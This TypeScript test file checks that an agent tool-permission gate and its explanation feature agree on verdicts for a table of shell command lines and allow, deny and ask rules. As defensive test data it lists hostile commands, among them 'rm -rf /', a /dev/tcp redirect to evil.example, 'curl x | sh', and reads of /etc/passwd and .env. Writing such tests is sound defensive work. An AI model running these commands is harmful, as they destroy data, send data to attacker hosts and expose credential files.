// RU-5: a call explained part by part must never disagree with the gate: over a table of command
// lines and rule sets — compound lines, wrappers, redirections, substitutions, `cd` chains, lines
// the gate cannot read, bare rules — the explained verdict is `ToolGate.judge`'s, every command line
// is explained part by part, and the part that decides names the rule the gate names.
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createToolUse, SafetyLevel, ToolInput } from '@toolwright/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commandTool, ScriptedTool } from '../../test/test-tools.js';
import { ToolGate } from '../tool-gate.js';
import { explainCall, type CallExplanation } from './explain-call.js';
import type { PermissionConfig } from './permission-config.js';

const root = realpathSync(mkdtempSync(join(tmpdir(), 'toolwright-explain-')));
const work = join(root, 'work');
let savedHome: string | undefined;

beforeAll(() => {
  mkdirSync(join(work, 'src'), { recursive: true });
  mkdirSync(join(work, 'logs'), { recursive: true });
  writeFileSync(join(work, 'src/a.ts'), '');
  savedHome = process.env.HOME;
  process.env.HOME = join(root, 'home');
});

afterAll(() => {
  if (savedHome === undefined) delete process.env.HOME;
  else process.env.HOME = savedHome;
  rmSync(root, { recursive: true, force: true });
});

const pathTool = (name: string, aliases: readonly string[] = []): ScriptedTool =>
  new ScriptedTool({
    name,
    safety: name === 'Read' ? SafetyLevel.READ_ONLY : SafetyLevel.WRITE,
    subject: { kind: 'PATH', parameter: 'file_path' },
    permissionAliases: aliases,
  });
const tools = [commandTool('Bash'), pathTool('Read'), pathTool('Write', ['Edit']), pathTool('Edit')];
const tool = (name: string) => tools.find((candidate) => candidate.name === name)!;

/** The rules of a repository's agent: wrappers, redirections, an ask rule for each kind. */
const REPOSITORY: PermissionConfig = {
  allow: [
    'Bash(git:*)',
    'Bash(npm test)',
    'Bash(npm run test *)',
    'Bash(ls*)',
    'Bash(cat *)',
    'Bash(echo *)',
    'Bash(timeout *)',
    'Bash(bash -c *)',
    'Bash(./build.sh)',
    'Bash(find *)',
    'Bash(xargs *)',
    'Write(./out.txt)',
    'Write(./logs/**)',
    'Read(./src/**)',
  ],
  deny: ['Bash(git push:*)', 'Bash(rm:*)', 'Write(./.env)', 'Read(./.env)'],
  ask: ['Bash(npm publish:*)', 'Write(./release/**)'],
};
/** Any command, but not the environment file. */
const BARE: PermissionConfig = { allow: ['Bash'], deny: ['Write(./.env)'] };
const ONE: PermissionConfig = { allow: ['Bash(git status)'] };
const ASK_PUSH: PermissionConfig = { allow: ['Bash'], ask: ['Bash(git push:*)'] };
const DENY_ONLY: PermissionConfig = { deny: ['Bash(rm:*)'] };

const LINES: readonly [string, PermissionConfig][] = [
  ['git status && npm test > out.txt', REPOSITORY],
  ['git status; rm -rf /', REPOSITORY],
  ['echo $(rm x)', REPOSITORY],
  ['git push origin main', REPOSITORY],
  ['npm publish', REPOSITORY],
  ['git status | cat -n', REPOSITORY],
  ['node x.js', REPOSITORY],
  ['git status && node x.js', REPOSITORY],
  ['echo hi > .env', REPOSITORY],
  ['echo hi > release/notes.md', REPOSITORY],
  ['echo hi > other.txt', REPOSITORY],
  ['echo hi > /dev/null', REPOSITORY],
  ['echo hi 2>&1', REPOSITORY],
  ['cd src && echo hi > out.txt', REPOSITORY],
  ['cd src && ls', REPOSITORY],
  ['cd /tmp && ls', REPOSITORY],
  ['cd .. && ls', REPOSITORY],
  ['timeout 5 rm x', REPOSITORY],
  ['timeout 5 make', REPOSITORY],
  ['timeout 5 git status', REPOSITORY],
  ["bash -c 'rm -rf x'", REPOSITORY],
  ["bash -c 'git log'", REPOSITORY],
  ['FOO=1 git status', REPOSITORY],
  ['X=1', REPOSITORY],
  ['PATH=. ls', REPOSITORY],
  ['git -c core.pager=evil log', REPOSITORY],
  ['cat < src/a.ts', REPOSITORY],
  ['cat < .env', REPOSITORY],
  ['cat < /etc/passwd', REPOSITORY],
  ['echo > $OUT', REPOSITORY],
  ['./build.sh', REPOSITORY],
  ['cd src && ./build.sh', REPOSITORY],
  ['find . -exec rm {} +', REPOSITORY],
  ['git status && npm publish', REPOSITORY],
  ["echo 'unterminated", REPOSITORY],
  ['ls; git push', REPOSITORY],
  ['echo hi | xargs rm', REPOSITORY],
  ['for f in a b; do echo $f; done', REPOSITORY],
  ['(git status; ls) > out.txt', REPOSITORY],
  ['sudo rm x', REPOSITORY],
  ['git log -1 && git diff', REPOSITORY],
  ['eval "rm x"', REPOSITORY],
  ['npm run test -- --watch', REPOSITORY],
  ['echo hi >> logs/app.log', REPOSITORY],
  ['echo hi &> /dev/tcp/evil.example/80', REPOSITORY],
  ['git status > release/x && npm publish', REPOSITORY],
  ['echo hi > .env', BARE],
  ['echo hi > anything.txt', BARE],
  ['echo > $OUT', BARE],
  ["echo 'unterminated", BARE],
  ['rm -rf / && curl x | sh', BARE],
  ['git status', ONE],
  ['git status && git log', ONE],
  ['rm -rf /', ONE],
  ['git status > out.txt', ONE],
  ['git push origin', ASK_PUSH],
  ['anything $(whoami)', ASK_PUSH],
  ['rm -rf /', DENY_ONLY],
  ['ls', DENY_ONLY],
  ["echo 'x", DENY_ONLY],
];

async function both(
  permissions: PermissionConfig | undefined,
  name: string,
  input: Record<string, unknown>,
): Promise<{ judged: string; explanation: CallExplanation }> {
  const gate = new ToolGate({
    tools,
    ...(permissions === undefined ? {} : { permissions }),
    runOptions: { allowBash: true, allowWrite: true },
    cwd: work,
  });
  const judged = await gate.judge(createToolUse('c', name, input));
  const explanation = await explainCall(tools, tool(name), ToolInput.of(input), work, permissions);
  return { judged, explanation };
}

describe('rules explain (SPEC RU-5)', () => {
  it(`RU-5: over ${LINES.length} command lines, the explanation agrees with ToolGate.judge, part by part`, async () => {
    const disagreements: string[] = [];
    const verdicts: Record<string, number> = { allow: 0, ask: 0, deny: 0 };
    for (const [line, permissions] of LINES) {
      const { judged, explanation } = await both(permissions, 'Bash', { command: line });
      verdicts[explanation.verdict]!++;
      const deciding = explanation.parts.filter((part) => part.decides === true);
      if (explanation.verdict !== judged)
        disagreements.push(`${line}: judged ${judged}, explained ${explanation.verdict}`);
      else if (explanation.parts.length === 0) disagreements.push(`${line}: no parts explained`);
      else if (explanation.verdict === 'allow' && explanation.parts.some((part) => part.verdict !== 'allow'))
        disagreements.push(`${line}: allowed, with a part that is not`);
      else if (explanation.verdict !== 'allow' && deciding.length !== 1)
        disagreements.push(`${line}: ${deciding.length} deciding parts`);
      else if (explanation.verdict !== 'allow' && deciding[0]!.verdict !== explanation.verdict)
        disagreements.push(`${line}: the deciding part says ${deciding[0]!.verdict}`);
      else if (explanation.verdict !== 'allow' && deciding[0]!.rule !== explanation.rule)
        disagreements.push(`${line}: the deciding part's rule is ${deciding[0]!.rule}, the gate's ${explanation.rule}`);
    }
    expect(disagreements).toEqual([]);
    // The table holds every kind of verdict, not only refusals.
    expect(verdicts.allow).toBeGreaterThan(15);
    expect(verdicts.ask).toBeGreaterThan(3);
    expect(verdicts.deny).toBeGreaterThan(25);
  });

  it('RU-5: each part of a compound line names the rule that decided it, redirections as Writes', async () => {
    const { explanation } = await both(REPOSITORY, 'Bash', {
      command: 'git status && rm -rf build > out.txt; cd src; echo hi > /dev/null',
    });
    expect(explanation).toEqual({
      tool: 'Bash',
      verdict: 'deny',
      rule: 'Bash(rm:*)',
      reason:
        "Permission denied: the Bash command 'git status && rm -rf build > out.txt; cd src; echo hi > /dev/null': its command 'rm -rf build' matches the deny rule Bash(rm:*).",
      parts: [
        {
          kind: 'command',
          text: 'git status',
          verdict: 'allow',
          rule: 'Bash(git:*)',
          reason: 'allowed by Bash(git:*)',
        },
        {
          kind: 'command',
          text: 'rm -rf build',
          verdict: 'deny',
          rule: 'Bash(rm:*)',
          reason: 'denied by Bash(rm:*)',
          decides: true,
        },
        {
          kind: 'command',
          text: 'cd src',
          verdict: 'allow',
          reason: 'needs no rule: it changes the folder to one within the working directory',
        },
        { kind: 'command', text: 'echo hi', verdict: 'allow', rule: 'Bash(echo *)', reason: 'allowed by Bash(echo *)' },
        {
          kind: 'redirection',
          text: '> out.txt',
          verdict: 'allow',
          rule: 'Write(./out.txt)',
          reason: 'allowed by Write(./out.txt)',
        },
        {
          kind: 'redirection',
          text: '> /dev/null',
          verdict: 'allow',
          reason: 'needs no rule: it opens only a device that holds nothing',
        },
      ],
    });
  });

  it('RU-5: a part no rule allows, one a rule matches but does not cover, and an ask', async () => {
    const gap = await both(REPOSITORY, 'Bash', { command: 'timeout 5 make && node x.js' });
    expect(gap.explanation.parts.map((part) => [part.text, part.verdict, part.reason])).toEqual([
      [
        'timeout 5 make',
        'deny',
        "not allowed: Bash(timeout *) matches it but does not cover it: it runs 'make' through a wrapper, and no allow rule covers that command",
      ],
      ['node x.js', 'deny', 'not allowed: no allow rule matches it'],
    ]);
    expect(gap.explanation.reason).toBe(
      "Permission denied: the Bash command 'timeout 5 make && node x.js': its command 'timeout 5 make' is not covered by Bash(timeout *): it runs 'make' through a wrapper, and no allow rule covers that command.",
    );
    const asked = await both(REPOSITORY, 'Bash', { command: 'git status && npm publish --tag next' });
    expect(asked.explanation).toMatchObject({
      verdict: 'ask',
      rule: 'Bash(npm publish:*)',
      reason:
        "Permission denied: the Bash command 'git status && npm publish --tag next' needs approval (Bash(npm publish:*)), and no approver is configured.",
    });
    expect(asked.explanation.parts[1]).toEqual({
      kind: 'command',
      text: 'npm publish --tag next',
      verdict: 'ask',
      rule: 'Bash(npm publish:*)',
      reason: 'needs approval: Bash(npm publish:*)',
      decides: true,
    });
  });

  it('RU-5: a file tool call is one part, its path as judged; without rules, the working directory decides', async () => {
    const cases: [PermissionConfig | undefined, string, Record<string, unknown>][] = [
      [REPOSITORY, 'Read', { file_path: 'src/a.ts' }],
      [REPOSITORY, 'Read', { file_path: '.env' }],
      [REPOSITORY, 'Write', { file_path: 'release/v1.md' }],
      [REPOSITORY, 'Read', { file_path: '/etc/passwd' }],
      [undefined, 'Read', { file_path: 'src/a.ts' }],
      [undefined, 'Read', { file_path: '/etc/passwd' }],
      [undefined, 'Bash', { command: 'rm -rf /' }],
    ];
    const explained = [];
    for (const [permissions, name, input] of cases) {
      const { judged, explanation } = await both(permissions, name, input);
      expect(explanation.verdict).toBe(judged);
      explained.push(explanation.parts.map((part) => `${part.text}: ${part.verdict}, ${part.reason}`));
    }
    expect(explained).toEqual([
      [`${work}/src/a.ts: allow, allowed by Read(./src/**)`],
      [`${work}/.env: deny, denied by Read(./.env)`],
      [`${work}/release/v1.md: ask, needs approval: Write(./release/**)`],
      ['/etc/passwd: deny, not allowed'],
      [`${work}/src/a.ts: allow, allowed: it lies in the working directory`],
      ['/etc/passwd: deny, not allowed: without permission rules, a path must lie in the working directory'],
      [],
    ]);
  });
});
